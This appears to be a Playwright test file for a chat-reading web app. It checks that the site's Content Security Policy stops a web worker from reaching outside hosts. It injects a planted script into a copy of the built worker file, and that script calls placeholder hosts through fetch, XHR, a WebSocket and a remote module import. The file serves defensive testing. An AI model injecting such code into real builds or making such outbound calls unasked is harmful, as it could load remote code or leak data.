/** The worker that reads a chat can ask nobody for anything; and if it did, it would be heard. */
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import type { LaunchOptions, Page } from "@playwright/test";

import { historyWords } from "#web/history/words.en.ts";

import { stampWorker } from "../../scripts/precache.mjs";
import { serve } from "../../scripts/serve.mjs";
import { visit } from "../network/visit.ts";
import { builtDir } from "../support/built.ts";
import { expect, test } from "../support/test.ts";
import { open, pick, zipOf } from "./history-way.ts";

/** What a careless change might let the worker do as soon as it has a file, each to a host of its own. */
const planted = `{
  const channel = new BroadcastChannel("planted");
  addEventListener("securitypolicyviolation", ({ blockedURI }) => channel.postMessage(blockedURI));
  const request = () =>
    new Promise((done) => {
      const asking = new XMLHttpRequest();
      asking.onloadend = done;
      asking.open("GET", "https://request.example/x");
      asking.send();
    });
  const socket = () => new Promise((done) => (new WebSocket("wss://socket.example/x").onerror = done));
  addEventListener(
    "message",
    async () => {
      await Promise.allSettled([
        fetch("https://fetch.example/x", { mode: "no-cors" }),
        request(),
        socket(),
        import("https://module.example/x.js"),
      ]);
      channel.postMessage("settled");
    },
    { once: true },
  );
}
`;
const hosts = ["fetch", "request", "socket", "module"].map((name) => `${name}.example`);

/** A copy of the built site in which the worker does that. */
const plantedBuild = (): { readonly dir: string; readonly drop: () => void } => {
  const parent = mkdtempSync(join(tmpdir(), "holdfast-planted-"));
  const dir = join(parent, "web");
  cpSync(builtDir(), dir, { recursive: true });
  cpSync(join(builtDir(), "../web-headers.json"), join(parent, "web-headers.json"));
  const [worker = ""] = readdirSync(join(dir, "assets")).filter((name) =>
    /^read-beside\.worker-.*\.js$/u.test(name),
  );
  const file = join(dir, "assets", worker);
  writeFileSync(file, planted + readFileSync(file, "utf8"));
  stampWorker(dir);
  return { dir, drop: () => rmSync(parent, { recursive: true, force: true }) };
};

/** Reads a chat with the planted worker. Gives what the worker said of what was refused, and what was asked for all the same. */
const readPlanted = async (headers: boolean, launchOptions: LaunchOptions) => {
  const copy = plantedBuild();
  const host = await serve({ dir: copy.dir, headers });
  const heard: string[] = [];
  const read = async (page: Page): Promise<void> => {
    await open(page);
    await page.exposeFunction("hear", (line: string) => void heard.push(line));
    await page.evaluate(() => {
      const hear: unknown = Reflect.get(globalThis, "hear");
      new BroadcastChannel("planted").onmessage = ({ data }: MessageEvent<string>) => {
        if (typeof hear === "function") Reflect.apply(hear, undefined, [data]);
      };
    });
    await pick(page, "chat.zip", zipOf(400, 1_000));
    await expect(page.getByRole("heading", { name: historyWords.who })).toBeVisible();
    await expect.poll(() => heard).toContain("settled");
  };
  try {
    const { asked, requested } = await visit(host.url, launchOptions, read);
    return { heard, asked, requested };
  } finally {
    await host.close();
    copy.drop();
  }
};

test("what the worker asks for by itself is refused, and goes nowhere", async ({
  launchOptions,
}) => {
  const { heard, asked } = await readPlanted(true, launchOptions);
  for (const host of hosts) {
    expect(
      heard.some((line) => line.includes(host)),
      host,
    ).toBe(true);
    expect(
      asked.filter((line) => line.includes(host)),
      host,
    ).toEqual([]);
  }
});

test("without its policy each of them would be heard", async ({ launchOptions }) => {
  const { heard, asked, requested } = await readPlanted(false, launchOptions);
  for (const host of hosts) expect(asked, host).toContain(`CONNECT ${host}:443`);
  // As the test of a whole reading listens.
  for (const host of ["fetch.example", "request.example"])
    expect(
      requested.some((line) => line.includes(host)),
      host,
    ).toBe(true);
  expect(heard).toEqual(["settled"]);
});
